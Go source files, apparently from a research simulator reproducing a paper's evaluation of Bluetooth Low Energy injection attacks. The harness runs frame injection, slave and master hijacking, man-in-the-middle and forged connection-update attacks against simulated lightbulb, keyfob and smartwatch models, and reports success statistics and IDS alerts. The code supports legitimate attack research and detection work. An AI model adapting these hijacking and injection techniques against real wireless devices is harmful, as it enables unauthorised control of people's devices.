		tw.fob = devices.NewKeyfob(targetDev)
		tw.peripheral, victimRoot = tw.fob.Peripheral, tw.fob
	case "smartwatch":
		tw.watch = devices.NewSmartwatch(targetDev)
		tw.peripheral, victimRoot = tw.watch.Peripheral, tw.watch
	default:
		return nil, fmt.Errorf("experiments: unknown target %q", cfg.Target)
	}
	centralName := cfg.CentralName
	if centralName == "" {
		centralName = "central"
	}
	centralCfg := host.DeviceConfig{Name: centralName, Position: cfg.CentralPos}
	if cfg.PhoneGrade {
		// Phones run BLE from a busy SoC: looser sleep clock and more
		// scheduling jitter than a dedicated controller.
		centralCfg.ClockPPM = 50
		centralCfg.ClockJitter = 8 * sim.Microsecond
	}
	if cfg.CentralPPM != 0 {
		centralCfg.ClockPPM = cfg.CentralPPM
	}
	if cfg.CentralJitter != 0 {
		centralCfg.ClockJitter = cfg.CentralJitter
	}
	var chMap ble.ChannelMap
	for ch := 0; ch < cfg.UnusedChans; ch++ {
		if chMap == 0 {
			chMap = ble.AllChannels
		}
		chMap = chMap.Without(uint8(ch))
	}
	activity := sim.Duration(-1)
	if cfg.ActivityMS > 0 {
		activity = sim.Duration(cfg.ActivityMS) * sim.Millisecond
	}
	tw.phone = devices.NewSmartphone(w.NewDevice(centralCfg), devices.SmartphoneConfig{
		ConnParams: link.ConnParams{
			Interval: cfg.Interval, Latency: cfg.Latency, Hop: cfg.Hop,
			CSA2: cfg.CSA2, ChannelMap: chMap,
		},
		ActivityInterval: activity,
	})
	attacker := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: cfg.AttackerPos,
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	tw.atk = injectable.NewAttacker(attacker.Stack, cfg.Injector)
	w.AddSnapshotRoot(victimRoot, tw.phone, tw.atk)
	if cfg.IDS {
		tw.monitor = ids.New(ids.Config{})
		w.Medium.AddObserver(tw.monitor)
		// The monitor's alert history must fork with the world, or forked
		// trials would inherit alerts from earlier forks.
		w.AddSnapshotRoot(tw.monitor)
	}
	for i, ex := range cfg.Extras {
		name := ex.Name
		if name == "" {
			name = fmt.Sprintf("extra%d", i)
		}
		dev := w.NewDevice(host.DeviceConfig{Name: name, Position: ex.Pos})
		var p *host.Peripheral
		var root any
		switch ex.Kind {
		case "", "lightbulb":
			b := devices.NewLightbulb(dev)
			p, root = b.Peripheral, b
		case "keyfob":
			f := devices.NewKeyfob(dev)
			p, root = f.Peripheral, f
		case "smartwatch":
			sw := devices.NewSmartwatch(dev)
			p, root = sw.Peripheral, sw
		default:
			return nil, fmt.Errorf("experiments: extras[%d]: unknown kind %q", i, ex.Kind)
		}
		w.AddSnapshotRoot(root)
		tw.extras = append(tw.extras, p)
	}
	return tw, nil
}

// warm advances through connection establishment and attacker
// synchronisation — everything that happens before the injection run and
// is identical across the trials of one configuration.
func (tw *trialWorld) warm(cfg TrialConfig) error {
	tw.atk.Sniffer.Start()
	tw.peripheral.StartAdvertising()
	for _, p := range tw.extras {
		p.StartAdvertising()
	}
	tw.phone.Connect(tw.peripheral.Device.Address())
	if err := runFor(tw.w, 3*sim.Second, cfg.Ctx); err != nil {
		return err
	}
	// In a crowded cell, bystander advertisements can collide with the
	// one-shot CONNECT_REQ — at the victim (the link never forms) or at
	// the sniffer (it misses the handshake it must observe). The only
	// recovery is a fresh handshake: tear the link down if it half-formed,
	// let the victim re-advertise, and initiate again. Worlds where the
	// fast path above succeeds never enter this loop, so their event
	// streams are untouched.
	for attempt := 0; attempt < 4; attempt++ {
		if tw.phone.Central.Connected() && tw.atk.Sniffer.Following() {
			return nil
		}
		if c := tw.phone.Central.Conn(); c != nil && !c.Closed() {
			c.Terminate()
			if err := runFor(tw.w, 500*sim.Millisecond, cfg.Ctx); err != nil {
				return err
			}
		}
		tw.atk.Sniffer.Stop()
		tw.atk.Sniffer.Start()
		tw.peripheral.StartAdvertising()
		tw.phone.Connect(tw.peripheral.Device.Address())
		if err := runFor(tw.w, 3*sim.Second, cfg.Ctx); err != nil {
			return err
		}
	}
	if !tw.phone.Central.Connected() {
		return fmt.Errorf("experiments: connection failed (seed %d)", cfg.Seed)
	}
	if !tw.atk.Sniffer.Following() {
		return fmt.Errorf("experiments: sniffer failed to sync (seed %d)", cfg.Seed)
	}
	return nil
}

// effectProbe arms the ground-truth observer for cfg's payload and
// returns a getter reporting whether the victim visibly executed the
// injected command (disconnect, for the terminate payload).
func (tw *trialWorld) effectProbe(cfg TrialConfig) func() bool {
	if cfg.Payload == PayloadTerminate {
		fired := false
		tw.peripheral.OnDisconnect = func(link.DisconnectReason) { fired = true }
		return func() bool { return fired }
	}
	switch {
	case tw.fob != nil:
		return func() bool { return tw.fob.RingCount > 0 }
	case tw.watch != nil:
		return func() bool { return len(tw.watch.Messages) > 0 }
	default:
		fired := false
		tw.bulb.OnChange = func(string) { fired = true }
		return func() bool { return fired }
	}
}

// featureWrite returns the victim type's feature-trigger handle and value
// (the PayloadFeature frame).
func (tw *trialWorld) featureWrite() (uint16, []byte) {
	switch {
	case tw.fob != nil:
		return tw.fob.AlertHandle(), devices.RingCommand()
	case tw.watch != nil:
		return tw.watch.SMSHandle(), []byte("Forged SMS")
	default:
		return tw.bulb.ControlHandle(), devices.PowerCommand(true)
	}
}

// frame builds the injected PDU for cfg against this world's victim.
func (tw *trialWorld) frame(cfg TrialConfig) (pdu.DataPDU, error) {
	if cfg.Payload == PayloadFeature {
		h, v := tw.featureWrite()
		return injectable.ForgeATTWriteCommand(h, v), nil
	}
	if tw.bulb == nil && cfg.Payload != PayloadTerminate {
		return pdu.DataPDU{}, fmt.Errorf("experiments: payload %v requires a lightbulb victim (use the feature payload)", cfg.Payload)
	}
	var handle uint16
	if tw.bulb != nil {
		handle = tw.bulb.ControlHandle()
	}
	return cfg.Payload.frame(handle), nil
}

// launchAttack fires the goal now, or schedules it cfg.GoalDelay into the
// run. The returned getter surfaces a deferred launch error after the
// simulation span completes.
func (tw *trialWorld) launchAttack(cfg TrialConfig, fire func() error) (deferred func() error, err error) {
	if cfg.GoalDelay <= 0 {
		return func() error { return nil }, fire()
	}
	var launchErr error
	tw.w.Sched.After(cfg.GoalDelay, "attack:launch", func() { launchErr = fire() })
	return func() error { return launchErr }, nil
}

// finish stamps goal-independent observations onto a result.
func (tw *trialWorld) finish(res TrialResult) TrialResult {
	if tw.monitor != nil {
		res.IDSAlerts = len(tw.monitor.Alerts())
	}
	return res
}

// attack performs one attack run against the warmed world, dispatching on
// the configured goal. The historical single-frame injection is the ""
// (inject) goal.
func (tw *trialWorld) attack(cfg TrialConfig) (TrialResult, error) {
	switch cfg.Goal {
	case "", GoalInject:
		return tw.attackInject(cfg)
	case GoalNone:
		if err := runFor(tw.w, cfg.SimBudget, cfg.Ctx); err != nil {
			return TrialResult{}, err
		}
		// Baseline world: nothing injected, so the heuristic trivially
		// agrees with the (absent) effect.
		return tw.finish(TrialResult{HeuristicAgrees: true}), nil
	case GoalHijackSlave:
		return tw.attackHijackSlave(cfg)
	case GoalHijackMaster:
		return tw.attackHijackMaster(cfg)
	case GoalMITM:
		return tw.attackMITM(cfg)
	case GoalUpdate:
		return tw.attackUpdate(cfg)
	default:
		return TrialResult{}, fmt.Errorf("experiments: unknown attacker goal %q", cfg.Goal)
	}
}

// attackInject is the paper's §VI-A single-frame injection run: inject,
// then check the heuristic verdict against device-model ground truth.
func (tw *trialWorld) attackInject(cfg TrialConfig) (TrialResult, error) {
	effect := tw.effectProbe(cfg)
	frame, err := tw.frame(cfg)
	if err != nil {
		return TrialResult{}, err
	}
	var report *injectable.Report
	deferred, err := tw.launchAttack(cfg, func() error {
		return tw.atk.Injector.Inject(frame, func(r injectable.Report) { report = &r })
	})
	if err != nil {
		return TrialResult{}, err
	}
	if err := runFor(tw.w, cfg.SimBudget, cfg.Ctx); err != nil {
		return TrialResult{}, err
	}
	if err := deferred(); err != nil {
		return TrialResult{}, err
	}
	if report == nil {
		return TrialResult{}, fmt.Errorf("experiments: injection did not settle in %v", cfg.SimBudget)
	}
	return tw.finish(TrialResult{
		Success:         report.Success,
		Attempts:        report.AttemptCount(),
		EffectObserved:  effect(),
		HeuristicAgrees: report.Success == effect(),
	}), nil
}

// attackHijackSlave expels the victim and impersonates it (§VI-B).
// Success means the impostor holds a live connection to the legitimate
// master at the end of the budget; the observable effect is the victim's
// expulsion.
func (tw *trialWorld) attackHijackSlave(cfg TrialConfig) (TrialResult, error) {
	var done bool
	var report *injectable.Report
	deferred, err := tw.launchAttack(cfg, func() error {
		return tw.atk.HijackSlave(hijackServer(), func(h *injectable.SlaveHijack, err error) {
			done = true
			if err == nil && h != nil {
				report = &h.Report
			}
		})
	})
	if err != nil {
		return TrialResult{}, err
	}
	if err := runFor(tw.w, cfg.SimBudget, cfg.Ctx); err != nil {
		return TrialResult{}, err
	}
	if err := deferred(); err != nil {
		return TrialResult{}, err
	}
	if !done {
		return TrialResult{}, fmt.Errorf("experiments: slave hijack did not settle in %v", cfg.SimBudget)
	}
	hj := tw.atk.SlaveHijack
	success := hj != nil && !hj.Conn.Closed() && tw.phone.Central.Connected()
	expelled := tw.peripheral.Conn() == nil || tw.peripheral.Conn().Closed()
	return tw.finish(TrialResult{
		Success:         success,
		Attempts:        attemptCount(report),
		EffectObserved:  expelled,
		HeuristicAgrees: success == expelled,
	}), nil
}

// attackHijackMaster splits the victim onto a forged schedule and adopts
// the master role (§VI-C). Success means the impostor master holds the
// victim; the observable effect is the legitimate master losing it.
func (tw *trialWorld) attackHijackMaster(cfg TrialConfig) (TrialResult, error) {
	var done bool
	var report *injectable.Report
	deferred, err := tw.launchAttack(cfg, func() error {
		return tw.atk.HijackMaster(cfg.Update, func(h *injectable.MasterHijack, err error) {
			done = true
			if err == nil && h != nil {
				report = &h.Report
			}
		})
	})
	if err != nil {
		return TrialResult{}, err
	}
	if err := runFor(tw.w, cfg.SimBudget, cfg.Ctx); err != nil {
		return TrialResult{}, err
	}
	if err := deferred(); err != nil {
		return TrialResult{}, err
	}
	if !done {
		return TrialResult{}, fmt.Errorf("experiments: master hijack did not settle in %v", cfg.SimBudget)
	}
	hj := tw.atk.MasterHijack
	success := hj != nil && !hj.Conn.Closed()
	lostSlave := !tw.phone.Central.Connected()
	return tw.finish(TrialResult{
		Success:         success,
		Attempts:        attemptCount(report),
		EffectObserved:  lostSlave,
		HeuristicAgrees: success == lostSlave,
	}), nil
}

// attackMITM interposes on both roles (§VI-D). Success means the relay
// session is still alive at the end of the budget; the observable effect
// is the legitimate master still holding (what it believes to be) its
// device.
func (tw *trialWorld) attackMITM(cfg TrialConfig) (TrialResult, error) {
	var done bool
	var session *injectable.MITM
	deferred, err := tw.launchAttack(cfg, func() error {
		return tw.atk.ManInTheMiddle(cfg.Update, injectable.MITMConfig{}, func(m *injectable.MITM, err error) {
			done = true
			if err == nil {
				session = m
			}
		})
	})
	if err != nil {
		return TrialResult{}, err
	}
	if err := runFor(tw.w, cfg.SimBudget, cfg.Ctx); err != nil {
		return TrialResult{}, err
	}
	if err := deferred(); err != nil {
		return TrialResult{}, err
	}
	if !done {
		return TrialResult{}, fmt.Errorf("experiments: mitm did not settle in %v", cfg.SimBudget)
	}
	success := session != nil && !session.Closed()
	relayed := success && tw.phone.Central.Connected()
	return tw.finish(TrialResult{
		Success:         success,
		EffectObserved:  relayed,
		HeuristicAgrees: success == relayed,
	}), nil
}

// attackUpdate injects a forged CONNECTION_UPDATE_IND and walks away: the
// victim adopts the new schedule at the instant while the legitimate
// master keeps the old one, silently breaking the connection. The
// observable effect is the legitimate master losing its slave.
func (tw *trialWorld) attackUpdate(cfg TrialConfig) (TrialResult, error) {
	var report *injectable.Report
	deferred, err := tw.launchAttack(cfg, func() error {
		return tw.atk.InjectConnectionUpdate(cfg.Update, func(r injectable.Report) { report = &r })
	})
	if err != nil {
		return TrialResult{}, err
	}
	if err := runFor(tw.w, cfg.SimBudget, cfg.Ctx); err != nil {
		return TrialResult{}, err
	}
	if err := deferred(); err != nil {
		return TrialResult{}, err
	}
	if report == nil {
		return TrialResult{}, fmt.Errorf("experiments: update injection did not settle in %v", cfg.SimBudget)
	}
	lostSlave := !tw.phone.Central.Connected()
	return tw.finish(TrialResult{
		Success:         report.Success,
		Attempts:        report.AttemptCount(),
		EffectObserved:  lostSlave,
		HeuristicAgrees: report.Success == lostSlave,
	}), nil
}

// attemptCount is a nil-safe report attempt count (a failed hijack's
// completion callback carries no report).
func attemptCount(r *injectable.Report) int {
	if r == nil {
		return 0
	}
	return r.AttemptCount()
}

// hijackServer is the minimal GATT profile an impostor slave serves.
func hijackServer() *gatt.Server {
	srv := gatt.NewServer(func([]byte) {})
	srv.AddService(&gatt.Service{
		UUID: att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{{
			UUID: att.UUID16(0x2A00), Properties: gatt.PropRead, Value: []byte("injectable"),
		}},
	})
	return srv
}

// RunTrial builds a fresh world, establishes the connection, synchronises
// the attacker and performs one attack run.
func RunTrial(cfg TrialConfig) (TrialResult, error) {
	cfg = cfg.withDefaults()
	tw, err := buildTrialWorld(cfg)
	if err != nil {
		return TrialResult{}, err
	}
	if err := tw.warm(cfg); err != nil {
		return TrialResult{}, err
	}
	return tw.attack(cfg)
}

// runFor advances the world by d of virtual time. With a nil ctx it is
// exactly w.RunFor(d); otherwise the span is walked in short slices with
// a cancellation check before each one. Slicing is invisible to the
// simulation: RunUntil processes every event up to each boundary and the
// same events fire in the same order as one contiguous run. A span whose
// final slice completes is a finished simulation — cancellation arriving
// during it does not fail the call.
func runFor(w *host.World, d sim.Duration, ctx context.Context) error {
	if ctx == nil {
		w.RunFor(d)
		return nil
	}
	const slice = 250 * sim.Millisecond
	for d > 0 {
		if err := ctx.Err(); err != nil {
			return err
		}
		step := d
		if step > slice {
			step = slice
		}
		w.RunFor(step)
		d -= step
	}
	return nil
}

// RunSeries runs n trials with distinct seeds and accumulates attempts of
// successful runs (failures count as MaxAttempts, flagged in the result).
type SeriesResult struct {
	Stats     Stats
	Failures  int
	Heuristic HeuristicTally
}

// HeuristicTally validates eq. 7 against ground truth across a series.
type HeuristicTally struct {
	Agree, Disagree int
}

// RunSeries runs the trial n times over seeds seedBase..seedBase+n-1,
// strictly in order — the campaign engine's single-worker degenerate case.
// Sweeps that want the worker pool go through Options.Parallel instead.
func RunSeries(cfg TrialConfig, n int, seedBase uint64, progress func(i int)) (SeriesResult, error) {
	opts := Options{TrialsPerPoint: n, SeedBase: seedBase, Parallel: 1}
	if progress != nil {
		opts.Progress = func(_ string, trial int) { progress(trial) }
	}
	points, err := runSweep(opts, "series", []SweepPoint{{
		Label: "series", SeedBase: seedBase, Cfg: cfg,
	}})
	if err != nil {
		return SeriesResult{}, err
	}
	return points[0].Series, nil
}
