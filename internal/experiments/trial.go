package experiments

import (
	"context"
	"fmt"

	"injectable/internal/ble/pdu"
	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// Payload identifies the frame injected in a trial; each corresponds to an
// on-air PDU length the paper sweeps (§VII-B) and to an observable effect
// on the lightbulb.
type Payload int

// Trial payloads.
const (
	// PayloadTerminate: LL_TERMINATE_IND — 4-byte PDU, disconnects the
	// bulb.
	PayloadTerminate Payload = iota + 1
	// PayloadToggle: empty vendor write — 9-byte PDU, toggles the bulb.
	PayloadToggle
	// PayloadPowerOff: power command — 14-byte PDU (the paper's 22-byte
	// frame), turns the bulb off.
	PayloadPowerOff
	// PayloadColor: colour command — 16-byte PDU, recolours the bulb.
	PayloadColor
)

// PDULen returns the on-air LL PDU length (header + payload).
func (p Payload) PDULen() int {
	switch p {
	case PayloadTerminate:
		return 4
	case PayloadToggle:
		return 9
	case PayloadPowerOff:
		return 14
	case PayloadColor:
		return 16
	default:
		return 0
	}
}

// String implements fmt.Stringer.
func (p Payload) String() string {
	switch p {
	case PayloadTerminate:
		return "terminate(4B)"
	case PayloadToggle:
		return "toggle(9B)"
	case PayloadPowerOff:
		return "power-off(14B)"
	case PayloadColor:
		return "color(16B)"
	default:
		return fmt.Sprintf("payload(%d)", int(p))
	}
}

// frame builds the injectable PDU for the bulb's control handle.
func (p Payload) frame(handle uint16) pdu.DataPDU {
	switch p {
	case PayloadTerminate:
		return injectable.ForgeTerminateInd()
	case PayloadToggle:
		return injectable.ForgeATTWriteCommand(handle, devices.ToggleCommand())
	case PayloadPowerOff:
		return injectable.ForgeATTWriteCommand(handle, devices.PowerCommand(false))
	case PayloadColor:
		return injectable.ForgeATTWriteCommand(handle, devices.ColorCommand(0xFF, 0x00, 0x00))
	default:
		return injectable.ForgeTerminateInd()
	}
}

// TrialConfig describes one injection trial: one fresh connection, one
// injection run, mirroring the paper's "25 injection attacks per value".
type TrialConfig struct {
	// Seed makes the trial reproducible.
	Seed uint64
	// Interval is the connection Hop Interval (paper's knob in exp. 1).
	Interval uint16
	// Payload picks the injected frame (paper's knob in exp. 2).
	Payload Payload
	// BulbPos, CentralPos, AttackerPos place the devices (exp. 3).
	BulbPos, CentralPos, AttackerPos phy.Position
	// Walls adds obstacles (exp. 3, wall variant).
	Walls []phy.Wall
	// PhoneGrade gives the central a phone-grade sloppy clock instead of
	// a dedicated controller (the paper's exp. 3 uses a smartphone).
	PhoneGrade bool
	// Capture overrides the collision model (ablation).
	Capture medium.CaptureModel
	// Injector tunes the attack (ablation).
	Injector injectable.InjectorConfig
	// MaxAttempts bounds the injection (0 = 200).
	MaxAttempts int
	// SimBudget bounds virtual time (0 = 120 s).
	SimBudget sim.Duration
	// Obs collects metrics and injection forensics from the trial's world
	// (nil = no observability; campaign runs thread their per-trial hub
	// through here).
	Obs *obs.Hub
	// Arena recycles simulation allocations from the previous trial run on
	// it (nil = fresh allocations; campaign workers thread their
	// worker-local arena through here). Reuse never changes trial results.
	Arena *sim.Arena
	// Ctx, when non-nil, cancels the trial: the simulation is advanced in
	// short slices and aborts with Ctx's error at the first slice boundary
	// after cancellation (sub-millisecond of wall time). A nil Ctx runs to
	// completion. Slicing never changes results — the scheduler processes
	// the same events in the same order either way.
	Ctx context.Context
}

// TrialResult reports one trial.
type TrialResult struct {
	Success  bool
	Attempts int
	// EffectObserved: ground truth from the device model — the injected
	// command visibly executed (validates the eq. 7 heuristic).
	EffectObserved bool
	// HeuristicAgrees: the heuristic verdict matched the ground truth.
	HeuristicAgrees bool
}

// withDefaults returns cfg with every zero knob filled in. All entry
// points (fresh, warm-fresh and fork-based execution) normalise through
// here so a configuration means the same trial everywhere.
func (cfg TrialConfig) withDefaults() TrialConfig {
	if cfg.Interval == 0 {
		cfg.Interval = 36
	}
	if cfg.Payload == 0 {
		cfg.Payload = PayloadPowerOff
	}
	if cfg.CentralPos == (phy.Position{}) {
		cfg.CentralPos = phy.Position{X: 2}
	}
	if cfg.AttackerPos == (phy.Position{}) {
		cfg.AttackerPos = phy.Position{X: 1, Y: 1.732}
	}
	if cfg.SimBudget == 0 {
		cfg.SimBudget = 120 * sim.Second
	}
	if cfg.MaxAttempts != 0 {
		cfg.Injector.MaxAttempts = cfg.MaxAttempts
	}
	return cfg
}

// trialWorld bundles one trial configuration's world and actors.
type trialWorld struct {
	w     *host.World
	bulb  *devices.Lightbulb
	phone *devices.Smartphone
	atk   *injectable.Attacker
}

// buildTrialWorld constructs the world, devices and attacker for cfg
// (defaults already applied). The actor wrappers are registered as
// snapshot roots so a snapshot taken from this world — and RekeyStreams —
// reaches every piece of their state.
func buildTrialWorld(cfg TrialConfig) *trialWorld {
	w := host.NewWorld(host.WorldConfig{
		Seed: cfg.Seed,
		Medium: medium.Config{
			PathLoss: &phy.LogDistance{Walls: cfg.Walls},
			Capture:  cfg.Capture,
		},
		Obs:   cfg.Obs,
		Arena: cfg.Arena,
	})
	bulb := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{
		Name: "bulb", Position: cfg.BulbPos,
	}))
	centralCfg := host.DeviceConfig{Name: "central", Position: cfg.CentralPos}
	if cfg.PhoneGrade {
		// Phones run BLE from a busy SoC: looser sleep clock and more
		// scheduling jitter than a dedicated controller.
		centralCfg.ClockPPM = 50
		centralCfg.ClockJitter = 8 * sim.Microsecond
	}
	phone := devices.NewSmartphone(w.NewDevice(centralCfg), devices.SmartphoneConfig{
		ConnParams:       link.ConnParams{Interval: cfg.Interval},
		ActivityInterval: -1,
	})
	attacker := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: cfg.AttackerPos,
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	atk := injectable.NewAttacker(attacker.Stack, cfg.Injector)
	w.AddSnapshotRoot(bulb, phone, atk)
	return &trialWorld{w: w, bulb: bulb, phone: phone, atk: atk}
}

// warm advances through connection establishment and attacker
// synchronisation — everything that happens before the injection run and
// is identical across the trials of one configuration.
func (tw *trialWorld) warm(cfg TrialConfig) error {
	tw.atk.Sniffer.Start()
	tw.bulb.Peripheral.StartAdvertising()
	tw.phone.Connect(tw.bulb.Peripheral.Device.Address())
	if err := runFor(tw.w, 3*sim.Second, cfg.Ctx); err != nil {
		return err
	}
	if !tw.phone.Central.Connected() {
		return fmt.Errorf("experiments: connection failed (seed %d)", cfg.Seed)
	}
	if !tw.atk.Sniffer.Following() {
		return fmt.Errorf("experiments: sniffer failed to sync (seed %d)", cfg.Seed)
	}
	return nil
}

// attack performs one injection run against the warmed world and checks
// the heuristic verdict against device-model ground truth.
func (tw *trialWorld) attack(cfg TrialConfig) (TrialResult, error) {
	// Ground-truth observers.
	effect := false
	switch cfg.Payload {
	case PayloadTerminate:
		tw.bulb.Peripheral.OnDisconnect = func(link.DisconnectReason) { effect = true }
	default:
		tw.bulb.OnChange = func(string) { effect = true }
	}

	var report *injectable.Report
	err := tw.atk.Injector.Inject(cfg.Payload.frame(tw.bulb.ControlHandle()), func(r injectable.Report) {
		report = &r
	})
	if err != nil {
		return TrialResult{}, err
	}
	if err := runFor(tw.w, cfg.SimBudget, cfg.Ctx); err != nil {
		return TrialResult{}, err
	}
	if report == nil {
		return TrialResult{}, fmt.Errorf("experiments: injection did not settle in %v", cfg.SimBudget)
	}
	return TrialResult{
		Success:         report.Success,
		Attempts:        report.AttemptCount(),
		EffectObserved:  effect,
		HeuristicAgrees: report.Success == effect,
	}, nil
}

// RunTrial builds a fresh world, establishes the connection, synchronises
// the attacker and performs one injection run.
func RunTrial(cfg TrialConfig) (TrialResult, error) {
	cfg = cfg.withDefaults()
	tw := buildTrialWorld(cfg)
	if err := tw.warm(cfg); err != nil {
		return TrialResult{}, err
	}
	return tw.attack(cfg)
}

// runFor advances the world by d of virtual time. With a nil ctx it is
// exactly w.RunFor(d); otherwise the span is walked in short slices with
// a cancellation check before each one. Slicing is invisible to the
// simulation: RunUntil processes every event up to each boundary and the
// same events fire in the same order as one contiguous run. A span whose
// final slice completes is a finished simulation — cancellation arriving
// during it does not fail the call.
func runFor(w *host.World, d sim.Duration, ctx context.Context) error {
	if ctx == nil {
		w.RunFor(d)
		return nil
	}
	const slice = 250 * sim.Millisecond
	for d > 0 {
		if err := ctx.Err(); err != nil {
			return err
		}
		step := d
		if step > slice {
			step = slice
		}
		w.RunFor(step)
		d -= step
	}
	return nil
}

// RunSeries runs n trials with distinct seeds and accumulates attempts of
// successful runs (failures count as MaxAttempts, flagged in the result).
type SeriesResult struct {
	Stats     Stats
	Failures  int
	Heuristic HeuristicTally
}

// HeuristicTally validates eq. 7 against ground truth across a series.
type HeuristicTally struct {
	Agree, Disagree int
}

// RunSeries runs the trial n times over seeds seedBase..seedBase+n-1,
// strictly in order — the campaign engine's single-worker degenerate case.
// Sweeps that want the worker pool go through Options.Parallel instead.
func RunSeries(cfg TrialConfig, n int, seedBase uint64, progress func(i int)) (SeriesResult, error) {
	opts := Options{TrialsPerPoint: n, SeedBase: seedBase, Parallel: 1}
	if progress != nil {
		opts.Progress = func(_ string, trial int) { progress(trial) }
	}
	points, err := runSweep(opts, "series", []sweepPoint{{
		Label: "series", SeedBase: seedBase, Cfg: cfg,
	}})
	if err != nil {
		return SeriesResult{}, err
	}
	return points[0].Series, nil
}
