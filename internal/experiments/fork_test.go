package experiments

import (
	"encoding/json"
	"reflect"
	"testing"

	"injectable/internal/obs"
)

// shortCfg keeps fork unit tests fast: few attempts, small budget.
func shortCfg() TrialConfig {
	return TrialConfig{Interval: 36, MaxAttempts: 40}
}

func TestRunForkMatchesWarmFresh(t *testing.T) {
	const base = 5000
	warmSeed := WarmTrialSeed(base)
	wt, err := NewWarmTrial(shortCfg(), warmSeed)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		trialSeed := uint64(base + i)

		forkSink := obs.NewHub()
		forked, err := wt.RunFork(trialSeed, forkSink, nil)
		if err != nil {
			t.Fatalf("trial %d: fork: %v", i, err)
		}

		freshCfg := shortCfg()
		freshSink := obs.NewHub()
		freshCfg.Obs = freshSink
		fresh, err := RunTrialWarmFresh(freshCfg, warmSeed, trialSeed)
		if err != nil {
			t.Fatalf("trial %d: warm-fresh: %v", i, err)
		}

		if forked != fresh {
			t.Fatalf("trial %d: fork=%+v fresh=%+v", i, forked, fresh)
		}
		forkObs, _ := json.Marshal(forkSink.Snapshot())
		freshObs, _ := json.Marshal(freshSink.Snapshot())
		if string(forkObs) != string(freshObs) {
			t.Fatalf("trial %d: obs snapshots diverge:\nfork =%s\nfresh=%s", i, forkObs, freshObs)
		}
		if !reflect.DeepEqual(forkSink.Led().Records(), freshSink.Led().Records()) {
			t.Fatalf("trial %d: forensics ledgers diverge", i)
		}
	}
}

func TestRunForkIsReplayable(t *testing.T) {
	wt, err := NewWarmTrial(shortCfg(), WarmTrialSeed(77))
	if err != nil {
		t.Fatal(err)
	}
	a, err := wt.RunFork(123, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	// An interleaved different-seed trial must not perturb the replay.
	if _, err := wt.RunFork(456, nil, nil); err != nil {
		t.Fatal(err)
	}
	b, err := wt.RunFork(123, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if a != b {
		t.Fatalf("same-seed forks diverge: %+v vs %+v", a, b)
	}
}

func TestRunCounterfactual(t *testing.T) {
	wt, err := NewWarmTrial(shortCfg(), WarmTrialSeed(300))
	if err != nil {
		t.Fatal(err)
	}
	out, err := wt.RunCounterfactual(301, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if out.BaselineEffect {
		t.Fatal("bulb changed state with no attacker traffic")
	}
	if out.Injected.EffectObserved && !out.Causal {
		t.Fatal("observed effect not attributed to the injection")
	}
}
