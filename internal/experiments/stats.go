// Package experiments reproduces the paper's evaluation: the sensitivity
// analysis of §VII (Figure 9's four panels — Hop Interval, payload size,
// attacker distance, wall), the four attack scenarios of §VI on the three
// simulated commercial devices, the encryption countermeasure of §IV/§VIII,
// the IDS detection study, the BTLEJack / GATTacker baselines, and the
// ablations of the design decisions listed in DESIGN.md §4.
package experiments

import (
	"fmt"
	"math"
	"sort"
	"strings"
)

// Stats summarises attempts-before-success samples from repeated trials —
// the quantity the paper's boxplots report.
type Stats struct {
	Samples []int
}

// Add appends a sample.
func (s *Stats) Add(v int) { s.Samples = append(s.Samples, v) }

// N returns the sample count.
func (s *Stats) N() int { return len(s.Samples) }

// sorted returns samples in ascending order.
func (s *Stats) sorted() []int {
	out := append([]int(nil), s.Samples...)
	sort.Ints(out)
	return out
}

// quantile returns the q-quantile (0..1) with linear interpolation.
func (s *Stats) quantile(q float64) float64 {
	if len(s.Samples) == 0 {
		return math.NaN()
	}
	sorted := s.sorted()
	pos := q * float64(len(sorted)-1)
	lo := int(pos)
	hi := lo + 1
	if hi >= len(sorted) {
		return float64(sorted[len(sorted)-1])
	}
	frac := pos - float64(lo)
	return float64(sorted[lo])*(1-frac) + float64(sorted[hi])*frac
}

// Min returns the smallest sample.
func (s *Stats) Min() int {
	if len(s.Samples) == 0 {
		return 0
	}
	return s.sorted()[0]
}

// Max returns the largest sample.
func (s *Stats) Max() int {
	if len(s.Samples) == 0 {
		return 0
	}
	sorted := s.sorted()
	return sorted[len(sorted)-1]
}

// Median returns the 50th percentile.
func (s *Stats) Median() float64 { return s.quantile(0.5) }

// Q1 returns the 25th percentile.
func (s *Stats) Q1() float64 { return s.quantile(0.25) }

// Q3 returns the 75th percentile.
func (s *Stats) Q3() float64 { return s.quantile(0.75) }

// Mean returns the arithmetic mean.
func (s *Stats) Mean() float64 {
	if len(s.Samples) == 0 {
		return math.NaN()
	}
	sum := 0.0
	for _, v := range s.Samples {
		sum += float64(v)
	}
	return sum / float64(len(s.Samples))
}

// Variance returns the sample variance.
func (s *Stats) Variance() float64 {
	if len(s.Samples) < 2 {
		return 0
	}
	m := s.Mean()
	sum := 0.0
	for _, v := range s.Samples {
		d := float64(v) - m
		sum += d * d
	}
	return sum / float64(len(s.Samples)-1)
}

// Row renders the stats as a fixed set of table columns.
func (s *Stats) Row() []string {
	return []string{
		fmt.Sprintf("%d", s.N()),
		fmt.Sprintf("%d", s.Min()),
		fmt.Sprintf("%.1f", s.Q1()),
		fmt.Sprintf("%.1f", s.Median()),
		fmt.Sprintf("%.1f", s.Q3()),
		fmt.Sprintf("%d", s.Max()),
		fmt.Sprintf("%.2f", s.Mean()),
		fmt.Sprintf("%.2f", s.Variance()),
	}
}

// StatsHeader names the columns of Row.
func StatsHeader() []string {
	return []string{"n", "min", "q1", "median", "q3", "max", "mean", "variance"}
}

// Boxplot renders a one-line ASCII boxplot over [0, max].
func (s *Stats) Boxplot(width int) string {
	if s.N() == 0 || width < 10 {
		return ""
	}
	maxV := float64(s.Max())
	if maxV == 0 {
		maxV = 1
	}
	pos := func(v float64) int {
		p := int(v / maxV * float64(width-1))
		if p < 0 {
